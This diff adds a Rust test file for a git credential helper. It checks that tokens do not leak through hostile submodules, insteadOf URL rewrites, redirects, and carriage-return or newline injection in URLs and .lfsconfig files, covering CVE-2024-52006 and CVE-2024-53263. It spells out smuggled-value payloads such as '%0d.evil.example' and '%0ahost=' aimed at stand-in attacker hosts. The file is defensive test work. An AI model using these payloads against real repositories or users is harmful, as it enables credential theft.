@@ -1,0 +1,116 @@
+//! Attacks that go through a real git or git-lfs: submodules, rewritten URLs, redirects, and a git
+//! that protects nobody. In each of them the helper is configured for every host.
+
+use std::fs;
+
+use super::scene::{Scene, assert_saw_no_token};
+use crate::town::http::{Answer, Exchange};
+use crate::town::server::Server;
+use crate::town::{Git, Town};
+
+/// A repository with a submodule on another host, cloned recursively.
+#[test]
+fn clone2leak_a_submodule_on_another_host() {
+    for git in Git::all() {
+        let (scene, attacker) = (Scene::with(&git), Town::start());
+        scene.help_everywhere();
+        scene.clone_app();
+        let url = attacker.github.url("acme/app");
+        let modules = format!("[submodule \"sub\"]\n\tpath = sub\n\turl = {url}\n");
+        scene.home.commit("app", ".gitmodules", modules.as_bytes());
+        let commit = scene.home.git_in("app", &["rev-parse", "HEAD"]).stdout;
+        let entry = format!("160000,{},sub", commit.trim());
+        scene.home.git_in("app", &["update-index", "--add", "--cacheinfo", &entry]).assert_ok();
+        scene.home.git_in("app", &["commit", "--quiet", "--message", "submodule"]).assert_ok();
+        scene.home.git_in("app", &["push", "--quiet", "origin", "HEAD"]).assert_ok();
+        let ran = scene.home.git(&["clone", "--quiet", "--recursive", &scene.url(), "again"]);
+        ran.assert_fails();
+        assert!(!ran.stderr.contains(&scene.token), "{ran:?}");
+        assert!(scene.home.path().join("again/.gitmodules").exists(), "the rest came\n{ran:?}");
+        assert_saw_no_token(&attacker);
+    }
+}
+
+/// A repository's own configuration sends git elsewhere behind the URL that a person sees.
+#[test]
+fn paperclip_10720_instead_of_rewrites_our_host() {
+    for git in Git::all() {
+        for key in ["insteadOf", "pushInsteadOf"] {
+            let (scene, attacker) = (Scene::with(&git), Town::start());
+            scene.help_everywhere();
+            scene.clone_app();
+            scene.home.commit("app", "file", b"content");
+            let evil = format!("url.http://{}/.{key}", attacker.github.host());
+            let ours = format!("http://{}/", scene.town.github.host());
+            scene.home.git_in("app", &["config", &evil, &ours]).assert_ok();
+            scene.home.git_in("app", &["push", "origin", "HEAD"]).assert_fails();
+            assert_saw_no_token(&attacker);
+        }
+    }
+}
+
+/// Our host itself sends git on to another.
+#[test]
+fn a_git_host_that_redirects_to_another() {
+    for git in Git::all() {
+        let (mut scene, attacker) = (Scene::with(&git), Town::start());
+        scene.help_everywhere();
+        let url = format!("http://{}", attacker.github.host());
+        let redirector = Server::start(0, move |stream| {
+            let Ok(exchange) = Exchange::read_head(stream) else { return };
+            let location = format!("{url}{}", exchange.target);
+            let _ = exchange.answer(&Answer::new(302, "").header("Location", &location));
+        });
+        let ours = format!("http://127.0.0.1:{}", redirector.port());
+        scene.home.set("GASTOWN_GIT_HOSTS", &ours);
+        scene.home.git(&["clone", &format!("{ours}/acme/app.git"), "app"]).assert_fails();
+        assert_saw_no_token(&attacker);
+    }
+}
+
+/// The protection in git itself is switched off, or was never there.
+#[test]
+fn cve_2024_52006_a_git_that_lets_carriage_returns_through() {
+    for git in Git::all() {
+        let scene = Scene::with(&git);
+        scene.help_everywhere();
+        for url in ["http://HOST%0d.evil.example/", "http://evil.example%0dhost=HOST/"] {
+            let url = url.replace("HOST", &scene.town.github.host());
+            let mut command = scene.home.command("git");
+            command.args(["-c", "credential.protectProtocol=false", "credential", "fill"]);
+            let ran = crate::town::Ran::run(command, format!("url={url}\n\n").as_bytes());
+            ran.assert_fails();
+            assert!(!ran.stdout.contains("password"), "{ran:?}");
+        }
+        // The same way in works for who asks honestly.
+        let mut command = scene.home.command("git");
+        command.args(["credential", "fill"]);
+        let honest = format!("url=http://{}/\n\n", scene.town.github.host());
+        let ran = crate::town::Ran::run(command, honest.as_bytes());
+        assert!(ran.assert_ok().stdout.contains(&scene.token), "{ran:?}");
+    }
+}
+
+/// `.lfsconfig` comes with the repository and says where git-lfs asks.
+#[test]
+fn cve_2024_53263_a_hostile_lfsconfig_and_a_real_git_lfs() {
+    let (scene, attacker) = (Scene::new(), Town::start());
+    scene.help_everywhere();
+    scene.clone_app();
+    let evil = attacker.github.host();
+    let ours = scene.town.github.host();
+    for url in [
+        format!("http://{evil}/acme/app.git/info/lfs"),
+        format!("http://github.com@{evil}/acme/app.git/info/lfs"),
+        format!("http://{evil}/%0ahost={ours}"),
+        format!("http://{evil}%0ahost={ours}/"),
+        format!("http://{evil}%0d%0ahost={ours}/"),
+    ] {
+        let config = format!("[lfs]\n\turl = {url}\n");
+        fs::write(scene.home.path().join("app/.lfsconfig"), config).expect("the clone is ours");
+        let ran = scene.home.git_in("app", &["lfs", "locks"]);
+        ran.assert_fails();
+        assert!(!format!("{ran:?}").contains(&scene.token), "{ran:?}");
+    }
+    assert_saw_no_token(&attacker);
+}
